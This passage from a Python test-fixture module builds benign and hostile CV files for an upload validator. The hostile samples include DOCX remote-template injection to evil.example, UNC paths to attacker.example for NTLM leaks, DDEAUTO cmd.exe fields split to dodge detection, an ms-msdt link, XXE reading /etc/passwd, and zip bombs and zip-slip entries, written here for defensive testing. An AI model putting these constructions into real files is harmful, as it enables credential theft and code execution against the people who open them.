    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("printerSettings", "printerSettings/printerSettings1.bin", None),
    )
    return build_docx(parts)


def valid_docx_with_stale_ole_declaration() -> bytes:
    """A DOCX whose content types still declare OLE objects (``Default Extension="bin"``)
    after the object itself was deleted: Word leaves such declarations behind."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"}
    )
    return build_docx(parts)


def valid_docx_with_page_field() -> bytes:
    """A DOCX with an ordinary PAGE field in its footer text (fields are not all commands)."""
    body = (
        "<w:p><w:r><w:t>Page </w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def valid_docx_with_ordinary_fields() -> bytes:
    """A CV with the fields real CVs carry: "Page X of Y" in its footer (one simple field),
    a table of contents, a HYPERLINK field to a profile and one to a bookmark, a
    cross-reference, a formula over a nested PAGE field, a long Zotero citation whose data
    holds URLs and the words "link" and "data" (add-in data Word never acts on), and a DATE
    field in a text box (written twice, for new and old versions of Word)."""
    citation = (
        "ADDIN ZOTERO_ITEM CSL_CITATION {&quot;citationItems&quot;:[{&quot;uris&quot;:"
        "[&quot;http://zotero.org/users/1/items/ABCD&quot;],&quot;itemData&quot;:{&quot;title"
        "&quot;:&quot;Link prediction with data import&quot;,&quot;URL&quot;:&quot;"
        "https://doi.org/10.1000/xyz&quot;,&quot;abstract&quot;:&quot;"
        + "We study link prediction. " * 800  # 20 000 characters: citation data runs long
        + "&quot;}}]}"
    )
    date = " DATE \\@ &quot;MMMM yyyy&quot; "
    body = (
        "<w:p>"
        + field_runs(' TOC \\o "1-3" \\h \\z \\u ', result="Experience")
        + "</w:p><w:p>"
        + field_runs(" HYPERLINK ", '"https://github.com/jane-doe"', result="GitHub")
        + field_runs(' HYPERLINK \\l "_Experience" \\o "Jump to experience" ')
        + field_runs(" REF _Ref12345 \\h ", result="Experience")
        + "</w:p><w:p>"
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + '<w:r><w:instrText xml:space="preserve"> = </w:instrText></w:r>'
        + field_runs(" PAGE ", result="1")
        + '<w:r><w:instrText xml:space="preserve"> + 1 </w:instrText></w:r>'
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>2</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        + "</w:p><w:p>"
        + field_runs(citation, result="(Doe, 2021)")
        + "</w:p><w:p><w:r>"
        + text_box_with_fallback(f"<w:p>{field_runs(date)}</w:p>")
        + "</w:r></w:p>"
    )
    footer = story_xml(
        "ftr",
        '<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r>'
        '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
        + field_runs(" NUMPAGES ", result="2")
        + "</w:p>",
    )
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/footer1.xml": FOOTER_CONTENT_TYPE})
    parts["word/document.xml"] = document_xml(body)
    parts["word/footer1.xml"] = footer
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("footer", "footer1.xml", None),
    )
    return build_docx(parts)


def valid_docx_with_main_part_named_dat() -> bytes:
    """A plain CV whose main part is ``word/document.dat``: Word finds it through
    ``_rels/.rels`` and knows it by its declared content type, not its name."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
    parts["word/document.dat"] = parts.pop("word/document.xml")
    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
    return build_docx(parts)


def valid_docx_with_svg_logo() -> bytes:
    """A CV with an SVG logo as Illustrator exports it, DOCTYPE and entities included: Word
    draws it as a picture and never reads it as a document."""
    svg = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
        b'[<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n'
        b'<svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>'
    )
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(defaults={"svg": "image/svg+xml"})
    parts["word/media/image1.svg"] = svg
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("image", "media/image1.svg", None),
    )
    return build_docx(parts)


# --------------------------------------------------------------------------------------------
# Hostile DOCX files
# --------------------------------------------------------------------------------------------


def docx_plain_zip() -> bytes:
    """An ordinary ZIP archive renamed ``.docx``: no ``[Content_Types].xml``."""
    return _plain_zip()


def docx_macro_enabled_content_type() -> bytes:
    """A macro-enabled document (.docm) renamed .docx: the main part says so."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/document.xml": MACRO_MAIN_CONTENT_TYPE}
    )
    return build_docx(parts)


def docx_template_content_type() -> bytes:
    """A Word template (.dotx) renamed .docx."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/document.xml": TEMPLATE_MAIN_CONTENT_TYPE}
    )
    return build_docx(parts)


def docx_vba_project() -> bytes:
    """A DOCX carrying a VBA macro project."""
    return _docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504})


def docx_activex_control() -> bytes:
    """A DOCX with an ActiveX control part."""
    return _docx_with(
        {
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60,
        }
    )


def docx_embedded_ole_object() -> bytes:
    """A DOCX with an embedded OLE object (the classic vehicle for packaged executables)."""
    return _docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})


def docx_ole_object_by_content_type() -> bytes:
    """An OLE object under an innocent name, declared as one only by its content type."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/media/object1.dat": "application/vnd.openxmlformats-officedocument.oleObject"}
    )
    parts["word/media/object1.dat"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    return build_docx(parts)


def docx_macros_by_content_type() -> bytes:
    """A VBA project under an innocent name, declared as one only by its content type."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        {"/word/media/data.dat": "application/vnd.ms-office.vbaProject"}
    )
    parts["word/media/data.dat"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    return build_docx(parts)


def docx_internal_ole_object_relationship() -> bytes:
    """An OLE object disguised under an innocent part name; only its relationship type
    (and its content type) say what it is."""
    parts = valid_docx_parts()
    parts["word/media/image2.png"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("oleObject", "media/image2.png", None),
    )
    return build_docx(parts)


def docx_altchunk_relationship() -> bytes:
    """An ``aFChunk`` (altChunk): Word imports and renders another document (HTML/MHT/RTF)."""
    parts = valid_docx_parts()
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("aFChunk", "afchunk.mht", None),
    )
    return build_docx(parts)


def docx_template_injection() -> bytes:
    """Remote template injection: Word fetches the "attached template" from the attacker's
    server on open (and may run its macros or leak NTLM credentials)."""
    parts = valid_docx_parts()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    ).encode()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "https://evil.example/template.dotm", "External")
    )
    return build_docx(parts)


def docx_external_image() -> bytes:
    """A linked (not embedded) picture: fetched on open, so it works as a tracking beacon."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("image", "https://tracker.example/pixel.png", "External"),
    )
    return build_docx(parts)


def docx_url_target_without_external_mode() -> bytes:
    """A remote template whose relationship omits ``TargetMode`` (so looks internal)."""
    parts = valid_docx_parts()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "\\\\attacker.example\\share\\t.dotm", None)
    )
    return build_docx(parts)


def docx_unc_path_template() -> bytes:
    """An attached template on a network share: Word connects (leaking NTLM hashes)."""
    parts = valid_docx_parts()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", "file://attacker.example/share/t.dotm", "External")
    )
    return build_docx(parts)


def docx_javascript_hyperlink() -> bytes:
    """A hyperlink to a ``javascript:`` URL."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "javascript:alert(document.domain)", "External")
    )
    return build_docx(parts)


def docx_protocol_handler_hyperlink() -> bytes:
    """A hyperlink to an OS protocol handler (the Follina ``ms-msdt:`` family)."""
    parts = valid_docx_parts()
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", "External")
    )
    return build_docx(parts)


def docx_billion_laughs_rels() -> bytes:
    """A ``.rels`` part with a DTD defining exponentially expanding entities."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    rels = (
        f'<?xml version="1.0"?><!DOCTYPE Relationships [{entities}]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"'
        ' Description="&lol9;"/></Relationships>'
    ).encode()
    parts = valid_docx_parts()
    parts["_rels/.rels"] = rels
    return build_docx(parts)


def docx_xxe_document() -> bytes:
    """``word/document.xml`` with an external entity (XXE) pointing at a local file."""
    parts = valid_docx_parts()
    parts["word/document.xml"] = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return build_docx(parts)


def docx_dde_field() -> bytes:
    """A DDEAUTO field split across runs ("DD" + "EAUTO ..."): Word joins the pieces and
    offers to run the command when the document is opened."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        ' "/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


# Files on a network share, as written in a field's code (backslashes doubled):
# \\attacker.example\share\cv.docx and so on.
_UNC_DOCX = r"\\\\attacker.example\\share\\cv.docx"
_UNC_XLSX = r"\\\\attacker.example\\share\\cv.xlsx"
_UNC_PDF = r"\\\\attacker.example\\share\\cv.pdf"
_DDE_COMMAND = r"c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"


def docx_dde_field_in_main_part_named_dat() -> bytes:
    """A DDEAUTO field in a main document named ``word/document.dat``: declared by an
    Override content type and found through ``_rels/.rels``, so Word opens it as the
    document, while a check choosing parts by the ``.xml`` extension never reads it."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
    parts["word/document.dat"] = document_xml(
        f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>"
    )
    del parts["word/document.xml"]
    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
    return build_docx(parts)


def docx_includepicture_field_remote() -> bytes:
    """A linked picture as a field (``\\d``: not stored, fetched on every update), its name
    in mixed case and split over runs: a tracking hit each time the CV is opened."""
    return docx_with_field(" includeP", 'icture  "https://tracker.example/cv-opened.png" \\d ')


def docx_includetext_field_unc_in_header() -> bytes:
    """An INCLUDETEXT field in a header that pulls in a document from a network share:
    Windows connects to the attacker's server with the reader's NTLM credentials."""
    header = story_xml("hdr", f"<w:p>{field_runs(' INCLUDETEXT ' + _UNC_DOCX)}</w:p>")
    return _docx_with_story(
        "header", "header1.xml", header, overrides={"/word/header1.xml": HEADER_CONTENT_TYPE}
    )


def docx_link_field_unc() -> bytes:
    """A LINK field (an OLE link) to a workbook on a network share, updated automatically
    (``\\a``), written as a simple field."""
    instr = f" LINK Excel.Sheet.12 &quot;{_UNC_XLSX}&quot; &quot;Sheet1!R1C1&quot; \\a \\f 0 "
    body = f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>42</w:t></w:r></w:fldSimple></w:p>'
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_import_field_in_footer_named_dat() -> bytes:
    """An IMPORT field (a picture read from a URL) in a footer named ``footer1.dat``,
    declared as a footer by an Override content type."""
    instr = " IMPORT &quot;https://tracker.example/logo.png&quot; "
    footer = story_xml("ftr", f'<w:p><w:fldSimple w:instr="{instr}"/></w:p>')
    return _docx_with_story(
        "footer", "footer1.dat", footer, overrides={"/word/footer1.dat": FOOTER_CONTENT_TYPE}
    )


def docx_header_declared_as_image() -> bytes:
    """A header part stored as ``media/image2.png`` (so its content type says PNG) holding a
    DDEAUTO field: the document's relationship still makes Word read it as a header."""
    header = story_xml("hdr", f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>")
    return _docx_with_story("header", "media/image2.png", header)


def docx_field_name_computed_by_nested_field() -> bytes:
    """A field whose name is "DD", then a nested QUOTE field's result ("E"), then "AUTO":
    Word splices the pieces into DDEAUTO when it updates the field."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        + field_runs(" QUOTE &quot;E&quot; ", result="E")
        + f'<w:r><w:instrText xml:space="preserve">AUTO {_DDE_COMMAND}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_dde_field_split_across_paragraphs() -> bytes:
    """A DDEAUTO field whose code runs on into the next paragraph ("DD" | "EAUTO ...")."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText xml:space="preserve">EAUTO {_DDE_COMMAND}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx_with({"word/document.xml": document_xml(body)})


def docx_hyperlink_field_unc() -> bytes:
    """A HYPERLINK field to a network share: one click sends the reader's NTLM hash."""
    return docx_with_field(f' HYPERLINK "{_UNC_PDF}" ')


_MAIL_MERGE = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
    '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
    'Data Source=\\\\attacker.example\\share\\people.xlsx"/>'
    '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
)


def docx_mail_merge_connection_string() -> bytes:
    """A mail-merge main document whose connection string names a workbook on a network
    share: on open Word offers to run its query, and connects if the reader agrees."""
    parts = valid_docx_parts()
    parts["word/settings.xml"] = story_xml("settings", _MAIL_MERGE)
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("settings", "settings.xml", None),
    )
    return build_docx(parts)


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """Deflate ``size`` zero bytes without ever holding them: one MiB block is compressed and
    flushed (which resets the compressor), so every further MiB compresses to the same bytes."""
    block_size = 1024 * 1024
    if size % block_size:
        raise ValueError("size must be a whole number of MiB")
    zeros = bytes(block_size)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(size // block_size):
        crc = zlib.crc32(zeros, crc)
    return block * (size // block_size) + end, crc


def _docx_with_zero_entry(size: int) -> bytes:
    payload, crc = _zeros_deflated(size)
    bomb = RawZipEntry(
        name=b"word/media/image1.png", payload=payload, file_size=size, crc=crc, flags=0x800
    )
    return _raw_docx(bomb)


@functools.cache
def docx_zip_bomb() -> bytes:
    """A ~200 KB DOCX with a 200 MiB entry (all zeros)."""
    return _docx_with_zero_entry(200 * 1024 * 1024)


@functools.cache
def docx_compression_ratio_bomb() -> bytes:
    """A DOCX within the total size limit whose one entry expands ~1000:1."""
    return _docx_with_zero_entry(20 * 1024 * 1024)


def docx_overlapping_entries_same_offset() -> bytes:
    """Fifty central-directory entries pointing at one local entry (the CVE-2024-0450
    family): a 1 KB kernel counted as 51 MiB, which Python 3.11's zipfile happily reads."""
    payload, crc = _zeros_deflated(1024 * 1024)
    kernel = RawZipEntry(
        name=b"word/media/k.png", payload=payload, file_size=1024 * 1024, crc=crc, flags=0x800
    )
    ghosts = [
        dataclasses.replace(
            kernel, name=b"word/media/k%d.png" % i, header_offset=0, write_local=False
        )
        for i in range(50)
    ]
    valid = [raw_entry(name, data) for name, data in valid_docx_parts().items()]
    return build_zip([kernel, *valid, *ghosts])


def docx_hidden_data_between_entries() -> bytes:
    """An HTML page stored as a local ZIP record that the central directory never lists:
    invisible to zipfile, found by tools that scan local headers."""
    hidden = raw_entry("index.html", b"<script>alert(1)</script>", in_central_directory=False)
    entries = [raw_entry(name, data) for name, data in valid_docx_parts().items()]
    return build_zip([entries[0], hidden, *entries[1:]])


def docx_overlapping_entries_quoted() -> bytes:
    """An entry whose declared compressed data runs over the next entry's local header
    (the "quoted overlap" construction behind non-recursive zip bombs)."""
    data = bytearray(_raw_docx())
    first = data.index(b"PK\x01\x02")  # the first central-directory record
    (compressed_size,) = struct.unpack_from("<L", data, first + 20)
    struct.pack_into("<L", data, first + 20, compressed_size + 64)
    return bytes(data)


def _named_docx(name: bytes, **overrides: object) -> bytes:
    return _raw_docx(raw_entry(name, b"<x/>", **overrides))


def docx_zip_slip_parent() -> bytes:
    """An entry that would be extracted two directories above the target (zip slip)."""
    return _named_docx(b"../../evil.xml")


def docx_zip_slip_absolute() -> bytes:
    """An entry with an absolute path."""
    return _named_docx(b"/etc/passwd")


def docx_zip_slip_drive_letter() -> bytes:
    """An entry with a Windows drive letter."""
    return _named_docx(b"C:\\x")


def docx_backslash_name() -> bytes:
    """A backslash path: a directory separator on Windows, a plain character elsewhere."""
    return _named_docx(b"word\\..\\..\\evil.xml")


def docx_nul_in_name() -> bytes:
    """A NUL byte in a name: Python's zipfile silently truncates it to ``word/evil.xml``."""
    return _named_docx(b"word/evil.xml\x00.exe")


def docx_symlink_entry() -> bytes:
    """An entry marked as a Unix symbolic link to /etc/passwd."""
    return _named_docx(b"word/link.xml", external_attr=(S_IFLNK | 0o777) << 16)


def docx_duplicate_names() -> bytes:
    """Two entries with the same name: different tools read different ones."""
    return _raw_docx(raw_entry("word/document.xml", document_xml("<w:p/>")))


def docx_case_insensitive_duplicate() -> bytes:
    """Two content-type parts differing only in case (Office part names ignore case)."""
    return _raw_docx(raw_entry("[content_types].xml", content_types_xml()))


def docx_too_many_entries() -> bytes:
    """Two thousand tiny entries."""
    extra = {f"customXml/item{i}.xml": b"<a/>" for i in range(2000)}
    return _docx_with(extra)


def docx_encrypted_entry() -> bytes:
    """An entry flagged as ZIP-encrypted (Word never writes these)."""
    return _named_docx(b"word/secret.xml", flags=0x801)


def docx_trailing_html() -> bytes:
    """A valid DOCX with an HTML page appended after the ZIP end record."""
    return valid_docx() + b"<html><script>alert(1)</script></html>"


def docx_truncated() -> bytes:
    """The first half of a valid DOCX (its central directory is gone)."""
    data = valid_docx()
    return data[: len(data) // 2]


def docx_missing_main_part() -> bytes:
    """Content types and relationships that name a main document the archive lacks."""
    parts = valid_docx_parts()
    del parts["word/document.xml"]
    return build_docx(parts)


# --------------------------------------------------------------------------------------------
# Not a PDF or DOCX at all
# --------------------------------------------------------------------------------------------


def windows_executable() -> bytes:
    """The start of a Windows PE executable (``MZ`` ... ``PE``)."""
    header = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<L", 64))
    return bytes(header) + b"PE\x00\x00" + b"\x00" * 200


def elf_executable() -> bytes:
    """The start of a Linux ELF executable."""
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 120


def html_with_script() -> bytes:
    """An HTML page with a script, as a stored-XSS attempt would upload."""
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def plain_text() -> bytes:
    """A CV typed as plain text."""
    return b"Jane Doe\nSenior engineer\n\nExperience: ten years of Python.\n"


def png_image() -> bytes:
    """A 1x1 PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">L", len(data)) + body + struct.pack(">L", zlib.crc32(body))

    header = struct.pack(">2L5B", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def legacy_word_doc() -> bytes:
    """An OLE2 compound file header: an old ``.doc`` or a password-protected Word file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def pdf_after_leading_bytes() -> bytes:
    """A valid PDF preceded by a UTF-8 byte order mark (lenient viewers scan for the header)."""
    return b"\xef\xbb\xbf" + valid_pdf()


def empty_file() -> bytes:
    """Zero bytes."""
    return b""


def oversized_cv(max_bytes: int) -> bytes:
    """A valid PDF exactly one byte larger than ``max_bytes``."""
    return valid_pdf(size_bytes=max_bytes + 1)


def _oversize() -> bytes:
    return oversized_cv(HOSTILE_MAX_BYTES)


# --------------------------------------------------------------------------------------------
# Registries
# --------------------------------------------------------------------------------------------

#: Files that must be accepted, with the kind ``inspect_cv`` must report.
GOOD_CVS: dict[str, tuple[Callable[[], bytes], str]] = {
    "pdf_minimal": (valid_pdf, "pdf"),
    "pdf_with_https_link": (valid_pdf_with_link, "pdf"),
    "pdf_with_open_view_destination": (valid_pdf_with_open_view, "pdf"),
    "pdf_with_object_stream": (valid_pdf_with_object_stream, "pdf"),
    "pdf_with_binary_image": (valid_pdf_with_binary_image, "pdf"),
    "pdf_with_many_strings": (valid_pdf_with_many_strings, "pdf"),
    "docx_with_external_hyperlink": (valid_docx, "docx"),
    "docx_from_office_template": (valid_docx_from_office_template, "docx"),
    "docx_from_local_template": (valid_docx_from_local_template, "docx"),
    "docx_with_printer_settings": (valid_docx_with_printer_settings, "docx"),
    "docx_with_stale_ole_declaration": (valid_docx_with_stale_ole_declaration, "docx"),
    "docx_with_page_field": (valid_docx_with_page_field, "docx"),
    "docx_with_ordinary_fields": (valid_docx_with_ordinary_fields, "docx"),
    "docx_with_main_part_named_dat": (valid_docx_with_main_part_named_dat, "docx"),
    "docx_with_svg_logo": (valid_docx_with_svg_logo, "docx"),
}

#: Hostile files by name, with the ``CvRejected.code`` each must produce.
_HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty_file": (empty_file, "empty"),
    "oversize": (_oversize, "too_large"),
    "windows_executable": (windows_executable, "unsupported_type"),
    "elf_executable": (elf_executable, "unsupported_type"),
    "html_with_script": (html_with_script, "unsupported_type"),
    "plain_text": (plain_text, "unsupported_type"),
    "png_image": (png_image, "unsupported_type"),
    "legacy_word_doc": (legacy_word_doc, "unsupported_type"),
    "pdf_after_leading_bytes": (pdf_after_leading_bytes, "unsupported_type"),
    "pdf_open_action_javascript": (pdf_open_action_javascript, "pdf_active_content"),
    "pdf_javascript_in_object_stream": (pdf_javascript_in_object_stream, "pdf_active_content"),
    "pdf_launch_action": (pdf_launch_action, "pdf_active_content"),
    "pdf_embedded_file": (pdf_embedded_file, "pdf_active_content"),
    "pdf_open_action_uri": (pdf_open_action_uri, "pdf_active_content"),
    "pdf_javascript_uri_link": (pdf_javascript_uri_link, "unsafe_link"),
    "pdf_3d_javascript": (pdf_3d_javascript, "pdf_active_content"),
    "pdf_trailing_html": (pdf_trailing_html, "pdf_trailing_data"),
    "pdf_zip_polyglot_appended": (pdf_zip_polyglot_appended, "pdf_trailing_data"),
    "pdf_zip_polyglot_inside": (pdf_zip_polyglot_inside, "pdf_polyglot"),
    "pdf_truncated": (pdf_truncated, "pdf_malformed"),
    "pdf_garbage": (pdf_garbage, "pdf_malformed"),
    "pdf_object_outside_xref": (pdf_object_outside_xref, "pdf_malformed"),
    "pdf_encrypted_with_password": (pdf_encrypted_with_password, "pdf_encrypted"),
    "pdf_encrypted_owner_only": (pdf_encrypted_owner_only, "pdf_encrypted"),
    "pdf_encrypted_aes256": (pdf_encrypted_aes256, "pdf_encrypted"),
    "pdf_too_many_objects": (pdf_too_many_objects, "pdf_too_complex"),
    "pdf_huge_literal_string": (pdf_huge_literal_string, "pdf_too_complex"),
    "pdf_huge_hex_string": (pdf_huge_hex_string, "pdf_too_complex"),
    "pdf_many_long_strings": (pdf_many_long_strings, "pdf_too_complex"),
    "pdf_huge_string_in_object_stream": (pdf_huge_string_in_object_stream, "pdf_too_complex"),
    "pdf_object_hidden_in_stream_data": (pdf_object_hidden_in_stream_data, "pdf_malformed"),
    "pdf_trailer_hidden_in_stream_data": (pdf_trailer_hidden_in_stream_data, "pdf_too_complex"),
    "pdf_nested_stream_with_early_endstream": (
        pdf_nested_stream_with_early_endstream,
        "pdf_malformed",
    ),
    "pdf_object_header_hiding_a_string": (pdf_object_header_hiding_a_string, "pdf_malformed"),
    "pdf_dictionary_end_swallowing_a_comment_mark": (
        pdf_dictionary_end_swallowing_a_comment_mark,
        "pdf_too_complex",
    ),
    "pdf_object_stream_objects_overlapping": (
        pdf_object_stream_objects_overlapping,
        "pdf_malformed",
    ),
    "docx_plain_zip": (docx_plain_zip, "unsupported_type"),
    "docx_macro_enabled_content_type": (docx_macro_enabled_content_type, "docx_content_type"),
    "docx_template_content_type": (docx_template_content_type, "docx_content_type"),
    "docx_vba_project": (docx_vba_project, "docx_macros"),
    "docx_activex_control": (docx_activex_control, "docx_embedded_content"),
    "docx_embedded_ole_object": (docx_embedded_ole_object, "docx_embedded_content"),
    "docx_ole_object_by_content_type": (docx_ole_object_by_content_type, "docx_embedded_content"),
    "docx_macros_by_content_type": (docx_macros_by_content_type, "docx_macros"),
    "docx_internal_ole_object_relationship": (
        docx_internal_ole_object_relationship,
        "docx_embedded_content",
    ),
    "docx_altchunk_relationship": (docx_altchunk_relationship, "docx_embedded_content"),
    "docx_template_injection": (docx_template_injection, "docx_external_relationship"),
    "docx_external_image": (docx_external_image, "docx_external_relationship"),
    "docx_url_target_without_external_mode": (
        docx_url_target_without_external_mode,
        "docx_external_relationship",
    ),
    "docx_unc_path_template": (docx_unc_path_template, "docx_external_relationship"),
    "docx_javascript_hyperlink": (docx_javascript_hyperlink, "unsafe_link"),
    "docx_protocol_handler_hyperlink": (docx_protocol_handler_hyperlink, "unsafe_link"),
    "docx_billion_laughs_rels": (docx_billion_laughs_rels, "docx_unsafe_xml"),
    "docx_xxe_document": (docx_xxe_document, "docx_unsafe_xml"),
    "docx_dde_field": (docx_dde_field, "docx_active_content"),
    "docx_dde_field_in_main_part_named_dat": (
        docx_dde_field_in_main_part_named_dat,
        "docx_active_content",
    ),
    "docx_includepicture_field_remote": (
        docx_includepicture_field_remote,
        "docx_external_relationship",
    ),
    "docx_includetext_field_unc_in_header": (
        docx_includetext_field_unc_in_header,
        "docx_external_relationship",
    ),
    "docx_link_field_unc": (docx_link_field_unc, "docx_external_relationship"),
    "docx_import_field_in_footer_named_dat": (
        docx_import_field_in_footer_named_dat,
        "docx_external_relationship",
    ),
    "docx_header_declared_as_image": (docx_header_declared_as_image, "docx_active_content"),
    "docx_field_name_computed_by_nested_field": (
        docx_field_name_computed_by_nested_field,
        "docx_active_content",
    ),
    "docx_dde_field_split_across_paragraphs": (
        docx_dde_field_split_across_paragraphs,
        "docx_active_content",
    ),
    "docx_hyperlink_field_unc": (docx_hyperlink_field_unc, "unsafe_link"),
    "docx_mail_merge_connection_string": (
        docx_mail_merge_connection_string,
        "docx_external_relationship",
    ),
    "docx_zip_bomb": (docx_zip_bomb, "docx_too_large"),
    "docx_compression_ratio_bomb": (docx_compression_ratio_bomb, "docx_compression_ratio"),
    "docx_overlapping_entries_same_offset": (
        docx_overlapping_entries_same_offset,
        "docx_overlapping_entries",
    ),
